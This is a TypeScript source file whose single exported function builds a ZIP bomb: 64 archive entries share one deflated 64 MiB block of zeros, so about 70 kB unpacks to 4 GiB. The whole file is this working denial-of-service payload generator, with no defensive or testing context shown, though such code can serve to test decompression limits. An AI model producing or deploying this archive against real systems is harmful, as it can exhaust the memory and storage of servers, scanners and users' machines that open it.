import { crc32, deflateRawSync } from "node:zlib";

const MEMBER = 64 * 2 ** 20;
const MEMBERS = 64;

/** A ZIP archive (APPNOTE 6.3) of 64 members of 64 MiB of zeros each, whose data they share: 4 GiB in 70 kB. */
export function zipBomb(): Uint8Array {
  const zeros = Buffer.alloc(MEMBER);
  const data = deflateRawSync(zeros, { level: 9 });
  const sum = crc32(zeros);
  const local = Buffer.concat([header(0x04034b50, "0.bin", sum, data.length, false), Buffer.from("0.bin"), data]);
  const directory = Buffer.concat(
    Array.from({ length: MEMBERS }, (_, i) => {
      const name = `${i}.bin`;
      return Buffer.concat([header(0x02014b50, name, sum, data.length, true), Buffer.from(name)]);
    }),
  );
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(MEMBERS, 8);
  end.writeUInt16LE(MEMBERS, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, directory, end]);
}

/** A local header, or an entry of the central directory, which has a version more in front and its attributes behind. */
function header(signature: number, name: string, sum: number, length: number, central: boolean): Buffer {
  const buffer = Buffer.alloc(central ? 46 : 30);
  const at = central ? 2 : 0;
  buffer.writeUInt32LE(signature, 0);
  buffer.writeUInt16LE(20, 4 + at);
  buffer.writeUInt16LE(8, 8 + at);
  buffer.writeUInt32LE(sum, 14 + at);
  buffer.writeUInt32LE(length, 18 + at);
  buffer.writeUInt32LE(MEMBER, 22 + at);
  buffer.writeUInt16LE(name.length, 26 + at);
  return buffer;
}
